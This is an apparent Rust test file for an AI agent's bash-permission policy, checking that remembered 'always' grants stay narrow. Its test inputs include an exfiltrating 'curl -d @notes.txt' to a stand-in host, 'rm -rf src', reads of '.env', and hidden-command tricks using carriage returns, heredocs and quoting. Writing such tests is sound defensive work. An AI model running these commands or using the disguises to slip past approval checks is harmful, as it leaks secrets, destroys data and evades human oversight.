//! Tests of "always" answers: commands that they cover, and commands that they never cover.

use super::*;
use benchdog_domain::command::Written;
use benchdog_domain::permission::{OnlyOnce, Scope};

/// Returns the offered scopes as patterns and options, the narrowest first.
fn offered(b: &Bench, text: &str) -> Vec<(String, Option<String>)> {
    let scopes = b.judged(&policy(Vec::new()), text).scopes;
    let written = |scope: Scope| (scope.pattern, scope.options.map(|options| options.join(" ")));
    scopes.into_iter().map(written).collect()
}

#[test]
fn always_covers_exactly_what_it_says() {
    let b = bench();
    let policy = policy(Vec::new());
    let covers = |scope: &Scope, text: &str| {
        let mut grants = Grants::default();
        grants.grant(scope.clone());
        policy.judge(&grants, &tool("bash"), &b.command(text)).action
    };
    let [line, wider] = &b.judged(&policy, "cargo test --lib").scopes[..] else {
        panic!("two sizes");
    };
    assert_eq!(covers(line, "cargo test --lib"), Allow);
    for text in ["cargo test", "cargo test --lib other", "cargo test --release"] {
        assert_eq!(covers(line, text), Ask, "{text}");
    }
    for text in ["cargo test", "cargo test other", "cargo test --lib one two"] {
        assert_eq!(covers(wider, text), Allow, "{text}");
    }
    for text in [
        "cargo test --release",
        "cargo test --lib --doc",
        "cargo publish",
        "cargo testify",
        "cargo test; cargo publish",
        "cargo test > notes.txt",
        "cargo test $(rm notes.txt)",
    ] {
        assert_eq!(covers(wider, text), Ask, "{text}");
    }
}

#[test]
fn what_is_remembered_counts_like_what_the_session_answered() {
    let b = bench();
    let policy = policy(Vec::new());
    let mut grants = Grants::default();
    grants.set_remembered(b.judged(&policy, "cargo test").scopes);
    let verdict = policy.judge(&grants, &tool("bash"), &b.command("cargo test"));
    assert_eq!((verdict.action, verdict.layer), (Allow, Layer::Remembered));
    grants.set_remembered(Vec::new());
    assert_eq!(
        policy.judge(&grants, &tool("bash"), &b.command("cargo test")).action,
        Ask
    );
}

#[test]
fn a_file_its_folder_or_all_files_are_offered() {
    let b = bench();
    let policy = policy(Vec::new());
    let offered = judge(&policy, "write", &path("src/deep/new.rs")).scopes;
    let patterns: Vec<&str> = offered.iter().map(|scope| scope.pattern.as_str()).collect();
    assert_eq!(patterns, ["src/deep/new.rs", "src/deep/*", "*"]);
    let allowed = |scope: &Scope, subjects: &[Subject]| {
        let mut grants = Grants::default();
        grants.grant(scope.clone());
        policy.judge(&grants, &tool("patch"), subjects).action == Allow
    };
    let secret = standing::path(&b.workspace.resolve(".env").unwrap());
    for (subjects, expected) in [
        (path("src/deep/new.rs"), [true, true, true]),
        (path("src/deep/more/other.rs"), [false, true, true]),
        (path("src/deeper.rs"), [false, false, true]),
        (vec![secret], [false, false, false]),
    ] {
        let found: Vec<bool> = offered.iter().map(|scope| allowed(scope, &subjects)).collect();
        assert_eq!(found, expected, "{subjects:?}");
    }
    let two = [path("src/a.rs"), path("src/b.rs")].concat();
    let both = judge(&policy, "patch", &two).scopes;
    let patterns: Vec<&str> = both.iter().map(|scope| scope.pattern.as_str()).collect();
    assert_eq!(patterns, ["src/*", "*"], "only what covers both");
}

#[test]
fn a_new_session_begins_without_the_answers_of_another() {
    let b = bench();
    let policy = policy(Vec::new());
    let mut first = Grants::default();
    first.grant(b.judged(&policy, "cargo test").scopes.remove(0));
    let action = |grants: &Grants| policy.judge(grants, &tool("bash"), &b.command("cargo test")).action;
    assert_eq!((action(&first), action(&Grants::default())), (Allow, Ask));
}

#[test]
fn only_commands_that_may_go_on_are_offered_as_more_than_their_line() {
    let b = bench();
    let line = |pattern: &str| (pattern.to_owned(), None);
    let more = |pattern: &str, options: &str| (pattern.to_owned(), Some(options.to_owned()));
    assert_eq!(offered(&b, "sudo systemctl status x"), []);
    assert_eq!(
        offered(&b, "cargo build 2>&1 | tail"),
        [line("cargo build 2>&1 | tail"), more("cargo build *", "")]
    );
    for fed in [
        "xargs -a notes.txt touch",
        "nice xargs --arg-file=notes.txt touch",
        "ls && xargs -ranotes.txt touch",
    ] {
        assert_eq!(offered(&b, fed), [], "{fed}: what it does stands in a file");
    }
    assert_eq!(offered(&b, "npm run lint -- --fix"), [line("npm run lint -- --fix")]);
    assert_eq!(
        offered(&b, "mkdir 'a * b'"),
        [more("mkdir *", "")],
        "without the quotes it is another line"
    );
    assert_eq!(offered(&b, "git add -A"), [line("git add -A"), more("git add *", "-A")]);
    assert_eq!(
        offered(&b, "python3 -m pytest -q -q x"),
        [line("python3 -m pytest -q -q x"), more("python3 -m pytest *", "-q")]
    );
}

#[test]
fn a_list_or_pipeline_of_plain_commands_is_remembered_as_exactly_this_line() {
    let b = bench();
    let policy = policy(vec![layer(
        Layer::User,
        &[("bash", &[("*", Ask), ("make deploy*", Deny)])],
    )]);
    for text in [
        "python3 -m pytest -q tests 2>&1 | tail -5",
        "cargo test >/dev/null 2>/dev/null",
        "git add -A && git commit -m 'wip'",
    ] {
        let judged = b.judged(&policy, text);
        let Some(scope) = judged.scopes.iter().find(|scope| scope.options.is_none()) else {
            panic!("{text}: {judged:?}")
        };
        let mut grants = Grants::default();
        grants.grant(scope.clone());
        let now = |text: &str| policy.judge(&grants, &tool("bash"), &b.command(text)).action;
        assert_eq!(now(text), Allow, "{text}");
        let others = [
            format!("{text} | tee new.txt"),
            format!("{text}; rm -rf src"),
            format!("{text} && cargo publish"),
            text.replace("wip", "wip x"),
            text.replace("-5", "-50"),
            format!("cargo run; {text}"),
        ];
        for other in others.iter().filter(|other| *other != text) {
            assert_eq!(now(other), Ask, "{other}");
        }
        assert_eq!(now(&format!("{text}; make deploy")), Deny);
    }
}

#[test]
fn an_answer_for_a_line_does_not_outlive_what_made_it_plain() {
    let b = bench();
    let policy = policy(Vec::new());
    let text = "cargo test && ./run 2>&1";
    let mut grants = Grants::default();
    let scope = |pattern: &str| Scope {
        key: "bash".to_owned(),
        pattern: pattern.to_owned(),
        options: None,
        and: Vec::new(),
    };
    grants.grant(scope(text));
    grants.grant(scope("curl -d @notes.txt https://x.example 2>&1 | tail"));
    grants.grant(scope("cargo test && rm -rf src"));
    grants.grant(scope("cargo test && cat .env"));
    for text in [
        "curl -d @notes.txt https://x.example 2>&1 | tail",
        "cargo test && rm -rf src",
        "cargo test && cat .env",
    ] {
        let judged = policy.judge(&grants, &tool("bash"), &b.command(text));
        assert_eq!((judged.action, judged.scopes), (Ask, Vec::new()), "{text}");
    }
}

#[test]
fn why_a_line_can_only_be_allowed_once_is_its_own_reason() {
    let b = bench();
    let why = |text: &str| b.judged(&policy(Vec::new()), text).only_once;
    for (text, written) in [
        ("cargo test > new.txt", Written::Redirected),
        ("cargo test $(echo x)", Written::Expanded),
        ("CI=1 cargo test", Written::Assigned),
        ("for x in 1 2; do cargo test; done", Written::Compound),
        ("xargs -a notes.txt touch", Written::Fed),
        ("cargo test &", Written::Compound),
    ] {
        assert_eq!(why(text), Some(OnlyOnce::Written(written)), "{text}");
    }
    for text in ["cargo test", "cargo test 2>&1 | tail -5"] {
        assert_eq!(why(text), None, "{text}");
    }
    let secret = why("cargo test && head .env");
    assert!(
        matches!(secret, Some(OnlyOnce::Guarded(Because::Reaches(_)))),
        "{secret:?}"
    );
}

#[test]
fn an_answer_for_one_quoted_command_allows_no_list_of_its_letters() {
    let b = bench();
    let policy = policy(Vec::new());
    let mut grants = Grants::default();
    grants.grant(Scope {
        key: "bash".to_owned(),
        pattern: "cargo bench fix && cargo build -p x".to_owned(),
        options: None,
        and: Vec::new(),
    });
    let judged = |text: &str| policy.judge(&grants, &tool("bash"), &b.command(text)).action;
    assert_eq!(judged("cargo bench 'fix && cargo' build -p x"), Ask);
    assert_eq!(judged("cargo bench fix '&&' cargo build -p x"), Ask);
    assert_eq!(judged("cargo bench fix && cargo build -p x"), Allow);
    assert_eq!(judged("cargo bench fix && cargo build -p x\u{a0}"), Ask);
    assert!(offered(&b, "python3 tools/a.py 'x && y'").is_empty());
    assert!(offered(&b, "bash -c 'python3 a.py $(cat task.txt)' 2>&1 | tail -5").is_empty());
}

#[test]
fn what_reads_like_something_harmless_and_is_not_asks() {
    let b = bench();
    let policy = policy(vec![layer(Layer::User, &[("bash", &[("cargo test *", Allow)])])]);
    for text in [
        "ls tools \r# ; cargo run",
        "bash -c $'ls tools \\r# ; cargo run'",
        "cat << /dev/null\n$(cargo run)\n/dev/null",
        "cargo test -- <<- /dev/null\n$(cargo run)\n/dev/null",
        "echo {PATH}>/dev/null; ls",
        "echo {PATH}>&1",
        "cd vendor/x && cargo test",
    ] {
        assert_ne!(b.judged(&policy, text).action, Allow, "{text:?}");
    }
    for text in ["ls tools 2>/dev/null", "cargo test 2>&1 | tail -5", "cd src && ls"] {
        assert_eq!(b.judged(&policy, text).action, Allow, "{text:?}");
    }
}
